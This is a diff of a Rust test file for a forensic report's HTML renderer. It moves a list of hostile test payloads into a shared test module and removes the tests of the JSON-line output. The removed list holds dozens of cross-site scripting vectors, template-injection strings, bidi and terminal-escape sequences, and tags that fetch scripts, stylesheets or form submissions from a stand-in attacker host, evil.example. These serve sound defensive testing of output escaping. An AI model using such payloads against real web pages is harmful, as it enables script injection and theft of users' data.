@@ -1,4 +1,4 @@
-//! What a hostile file can put into the page and the JSON line: only text that cannot act, hide or reorder
+//! What a hostile file can put into the page: only text that cannot act, hide or reorder
 //! (reliability plan R17, R19), and the same bytes every time (R22).
 
 // Helpers of tests stand outside test functions, where the lint's exception for tests does not reach.
@@ -8,136 +8,16 @@ mod common;
 
 use std::collections::BTreeSet;
 
+use common::hostile::{PAYLOADS, filled, hostile};
 use saboot_core::exhibit::Kind;
 use saboot_core::figure::{FigureKind, Figures};
 use saboot_core::lr::Log10Lr;
-use saboot_core::media::{Coverage, METADATA_ONLY};
+use saboot_core::media::METADATA_ONLY;
 use saboot_core::opinion::Verdict;
-use saboot_core::{Class, Code, Damage, Languages, Untrusted};
+use saboot_core::{Class, Code, Languages};
+use saboot_report::Report;
 use saboot_report::html::render;
-use saboot_report::{Line, Report};
 use serde_json::Value;
-
-/// Markup, attributes, style, templates, encodings, control and reading-order characters.
-const PAYLOADS: &[&str] = &[
-    "<script>alert(1)</script>",
-    "</script><script>alert(1)</script>",
-    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
-    "<scr<script>ipt>alert(1)</scr</script>ipt>",
-    "<script\u{0}>alert(1)</script>",
-    "<script/x>alert(1)</script>",
-    "<img src=x onerror=alert(1)>",
-    "<img src=\"https://evil.example/p.png\">",
-    "<img/src/onerror=alert(1)>",
-    "<svg onload=alert(1)>",
-    "<svg><script href=\"data:,alert(1)\"/></svg>",
-    "</svg><svg><animate onbegin=alert(1) attributeName=x dur=1s>",
-    "<svg><a xlink:href=\"javascript:alert(1)\"><text>x</text></a></svg>",
-    "<svg><foreignObject><iframe src=javascript:alert(1)></foreignObject></svg>",
-    "<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
-    "<iframe src=\"javascript:alert(1)\"></iframe>",
-    "<iframe srcdoc=\"<script>alert(1)</script>\">",
-    "<object data=\"https://evil.example/\"></object>",
-    "<embed src=//evil.example>",
-    "<base href=\"https://evil.example/\">",
-    "<link rel=stylesheet href=https://evil.example/x.css>",
-    "<meta http-equiv=refresh content=\"0;url=https://evil.example\">",
-    "<meta http-equiv=\"Content-Security-Policy\" content=\"default-src *\">",
-    "<form action=https://evil.example><button>send</button></form>",
-    "<a href=\"javascript:alert(1)\">click</a>",
-    "<a href=https://evil.example>your court file</a>",
-    "<video><source onerror=alert(1)></video>",
-    "<audio src=x onerror=alert(1)>",
-    "<details open ontoggle=alert(1)>",
-    "<body onload=alert(1)>",
-    "<input autofocus onfocus=alert(1)>",
-    "<marquee onstart=alert(1)>",
-    "<template><script>alert(1)</script></template>",
-    "</style><script>alert(1)</script>",
-    "<style>*{background:url(https://evil.example)}</style>",
-    "<style>@import 'https://evil.example/x.css';</style>",
-    "</title><script>alert(1)</script>",
-    "</textarea><script>alert(1)</script>",
-    "--><script>alert(1)</script>",
-    "<!--",
-    "<![CDATA[<script>alert(1)</script>]]>",
-    "<?xml-stylesheet href=\"javascript:alert(1)\"?>",
-    "\" onmouseover=\"alert(1)",
-    "' onmouseover='alert(1)",
-    "\"><script>alert(1)</script>",
-    "'><img src=x onerror=alert(1)>",
-    "`onmouseover=alert(1)",
-    "javascript:alert(1)",
-    "data:text/html;base64,PHNjcmlwdD4=",
-    "{{ r.settings }}",
-    "{% include 'report.html' %}",
-    "{{ ''|safe }}{# comment #}",
-    "{{7*7}}${7*7}#{7*7}<%= 7*7 %>",
-    "&lt;script&gt;alert(1)&lt;/script&gt;",
-    "&#x3c;script&#x3e;alert(1)&#60;/script&#62;",
-    "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
-    "\u{feff}<script>alert(1)</script>",
-    "<\u{200b}script>alert(1)</script>",
-    "\u{202e}gpj.exe\u{202c}\u{2066}x\u{2069}\u{200f}\u{61c}",
-    "\u{1b}]8;;https://evil.example\u{7}link\u{1b}]8;;\u{7}\u{1b}[2J\u{9b}31m",
-    "line one\r\nline two\u{85}three\u{2028}four\u{2029}\u{b}\u{c}\u{8}\u{7f}",
-    "\u{e0041}\u{e007f}\u{fff9}\u{ad}\u{180e}\u{2060}",
-    "＜script＞alert(1)＜/script＞",
-    "\u{fdd0}\u{ffff}\u{10ffff}<\u{301}script>",
-];
-
-/// Puts a text wherever the contents or the name of a file, or a damaged worker's reply, can put one.
-fn filled(text: &str) -> Report {
-    let mut report = common::full();
-    let foreign = || Untrusted::from(text);
-    report.path = foreign();
-    report.refusal = foreign();
-    if let Some(exhibit) = &mut report.exhibit {
-        exhibit.path = foreign();
-        exhibit.members.iter_mut().for_each(|m| m.path = foreign());
-    }
-    let examination = report.examination.as_mut().unwrap();
-    examination.streams.others = vec![foreign(), foreign()];
-    for property in &mut examination.properties {
-        (property.name, property.value) = (foreign(), foreign());
-    }
-    for finding in &mut examination.findings {
-        finding.observed = foreign();
-        finding.statement = text.to_owned();
-    }
-    for path in &mut examination.paths {
-        (path.words, path.words_hindi) = (text.to_owned(), text.to_owned());
-        path.steps.iter_mut().for_each(|s| s.by = foreign());
-    }
-    for damage in &mut examination.damage {
-        *damage = Damage { place: foreign(), detail: foreign(), ..damage.clone() };
-    }
-    examination.models.iter_mut().for_each(|m| m.hint = text.to_owned());
-    examination.properties.iter_mut().for_each(|p| p.section = text.to_owned());
-    report.enclosed_in.as_mut().unwrap().path = foreign();
-    let custody = report.time.custody.as_mut().unwrap();
-    custody.case = foreign();
-    for entry in &mut custody.entries {
-        (entry.text, entry.by) = (foreign(), foreign());
-    }
-    for card in &mut report.cards {
-        for field in [&mut card.version, &mut card.title, &mut card.summary, &mut card.licence] {
-            *field = text.to_owned();
-        }
-        (card.training_data, card.limits) = (text.to_owned(), text.to_owned());
-        card.fools_it = vec![text.to_owned()];
-        card.hindi = None;
-        card.measured.iter_mut().for_each(|m| (m.set, m.condition) = (text.to_owned(), text.to_owned()));
-        card.calibration.iter_mut().for_each(|c| c.fitted_on = text.to_owned());
-    }
-    let rows = report.validation.iter_mut().flat_map(|v| &mut v.rows);
-    rows.flat_map(|r| &mut r.mix).for_each(|m| m.value = text.to_owned());
-    report.environment.machine = text.to_owned();
-    report.environment.isolation = text.to_owned();
-    report.environment.libraries = vec![text.to_owned(), text.to_owned()];
-    report.settings = serde_json::json!({ "trust": text });
-    report
-}
 
 /// How often [`filled`] text comes out in a language: heading, refusal, the table of the summary, three members, two
 /// streams, three properties thrice, six findings twice, two paths with four steps in all, two damages twice, two models,
@@ -184,10 +64,6 @@ fn text_of(page: &str) -> String {
         }
     }
     text
-}
-
-fn hostile(c: char) -> bool {
-    matches!(u32::from(c), 0..=9 | 0xb..=0x1f | 0x7f..=0x9f | 0xad | 0x61c | 0x180e | 0x200b | 0x200e | 0x200f | 0x2028..=0x202e | 0x2060..=0x206f | 0xfeff | 0xfff9..=0xfffb | 0xe0000..=0xe007f)
 }
 
 /// The page's structure does not depend on any text of the file: the tags are those of a page of harmless text, in
@@ -524,114 +400,6 @@ fn every_class_has_its_heading() {
     let history = findings.iter().find(|f| f.class == Class::ProcessingHistory).unwrap();
     let before = &page[..page.find(&history.statement).unwrap()];
     assert!(before.rsplit("<h3>").next().unwrap().contains("None of this raises suspicion"));
-}
-
-/// The contract's keys, in its order.
-const KEYS: [&str; 13] = [
-    "path",
-    "sha256",
-    "kind",
-    "status",
-    "verdict",
-    "log10_lr",
-    "lr_bounds",
-    "detectors",
-    "findings",
-    "path_of_copy",
-    "reasons",
-    "coverage",
-    "report",
-];
-
-/// The keys of the outermost object, in the order in which they stand.
-fn keys_in_order(json: &str) -> Vec<String> {
-    struct Keys(Vec<String>);
-    impl<'de> serde::Deserialize<'de> for Keys {
-        fn deserialize<D: serde::Deserializer<'de>>(deserializer: D) -> Result<Self, D::Error> {
-            struct Visit;
-            impl<'de> serde::de::Visitor<'de> for Visit {
-                type Value = Keys;
-                fn expecting(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
-                    f.write_str("an object")
-                }
-                fn visit_map<A: serde::de::MapAccess<'de>>(self, mut map: A) -> Result<Keys, A::Error> {
-                    let mut keys = Vec::new();
-                    while let Some((key, serde::de::IgnoredAny)) = map.next_entry::<String, _>()? {
-                        keys.push(key);
-                    }
-                    Ok(Keys(keys))
-                }
-            }
-            deserializer.deserialize_map(Visit)
-        }
-    }
-    serde_json::from_str::<Keys>(json).unwrap().0
-}
-
-#[test]
-fn lines_keep_the_contract() {
-    for (name, report) in common::all() {
-        let line = Line::new(&report, Some("out/1".to_owned())).to_json().unwrap();
-        assert_eq!(keys_in_order(&line), KEYS, "{name}");
-        let json: Value = serde_json::from_str(&line).unwrap();
-        assert_eq!(json["verdict"], report.opinion.verdict.as_str(), "{name}");
-        assert_eq!(json["status"], report.opinion.status.as_str(), "{name}");
-        assert_eq!(json["report"], "out/1");
-        assert_eq!(json["log10_lr"].is_null(), report.opinion.log10_lr.is_none(), "{name}");
-    }
-    let json: Value = serde_json::from_str(&Line::new(&common::full(), None).to_json().unwrap()).unwrap();
-    for (list, keys) in [
-        ("detectors", vec!["id", "log10_lr", "scope", "score"]),
-        ("findings", vec!["class", "code", "grade", "span"]),
-        ("path_of_copy", vec!["by", "grade", "place", "step"]),
-    ] {
-        let items = json[list].as_array().unwrap();
-        assert!(items.len() >= 2);
-        for item in items {
-            let mut found: Vec<&String> = item.as_object().unwrap().keys().collect();
-            found.sort();
-            assert_eq!(found, keys, "{list}");
-        }
-    }
-    assert_eq!(json["report"], Value::Null);
-    assert_eq!(json["lr_bounds"], serde_json::json!([-1.2, 4.0]));
-}
-
-/// One line of valid JSON, whatever the file is called.
-#[test]
-fn lines_are_one_clean_line() {
-    for payload in PAYLOADS {
-        let report = filled(payload);
-        let line = Line::new(&report, Some((*payload).to_owned())).to_json().unwrap();
-        assert!(!line.contains('\n') && !line.contains(hostile), "{payload:?}");
-        let json: Value = serde_json::from_str(&line).unwrap();
-        assert_eq!((&json["path"], &json["report"]), (&Value::from(*payload), &Value::from(*payload)));
-        // report.json too, which has lines but no other control character.
-        let text = report.to_json().unwrap();
-        assert!(!text.contains(hostile), "{payload:?}");
-        assert_eq!(serde_json::from_str::<Report>(&text).unwrap(), report, "{payload:?}");
-    }
-}
-
-/// A number that is none becomes null, never `NaN`, which is no JSON.
-#[test]
-fn lines_hold_no_nan() {
-    for bad in [f64::NAN, f64::INFINITY, f64::NEG_INFINITY] {
-        let mut report = common::full();
-        report.opinion.lr_bounds = Some((bad, bad));
-        let examination = report.examination.as_mut().unwrap();
-        examination.readings.iter_mut().for_each(|r| r.score = Some(bad));
-        examination.coverage = Coverage {
-            longest_gap_s: Some(bad),
-            audio_decoded_s: bad,
-            frames_total: Some(u64::MAX),
-            ..Coverage::default()
-        };
-        for text in [Line::new(&report, None).to_json().unwrap(), report.to_json().unwrap()] {
-            serde_json::from_str::<Value>(&text).unwrap();
-            assert!(!text.contains("NaN") && !text.contains("Infinity"), "{text}");
-        }
-    }
 }
 
 /// Every page that scripts/check/page opens in a browser: each payload in both languages, and each kind of report.
